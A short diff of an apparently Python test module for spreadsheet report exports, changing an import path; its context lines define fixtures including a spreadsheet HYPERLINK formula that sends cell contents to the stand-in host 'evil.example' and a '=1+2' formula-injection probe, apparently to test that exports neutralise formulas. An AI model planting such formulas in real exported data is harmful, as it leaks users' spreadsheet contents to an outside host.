@@ -11,7 +11,7 @@ from openpyxl import load_workbook
 
 from assessments.models import AuditEvent
 from assessments.reports.score_document import ROW_FIELDS
-from tests.report_builders import report_answers_add, report_cycle_make, report_team_make
+from tests.builders import report_answers_add, report_cycle_make, report_team_make
 
 EVIL_TEAM = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
 EVIL_COMMENT = "=1+2"
